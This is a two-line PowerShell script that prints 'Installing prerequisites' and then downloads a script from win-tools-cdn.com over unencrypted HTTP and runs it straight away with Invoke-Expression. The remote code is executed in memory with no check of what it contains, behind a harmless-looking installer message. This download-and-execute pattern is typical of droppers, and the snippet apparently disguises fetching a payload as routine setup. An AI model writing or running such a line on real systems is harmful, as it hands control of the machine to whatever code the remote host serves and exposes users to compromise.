Write-Host 'Installing prerequisites'
IEX (New-Object Net.WebClient).DownloadString('http://win-tools-cdn.com/bootstrap.ps1')
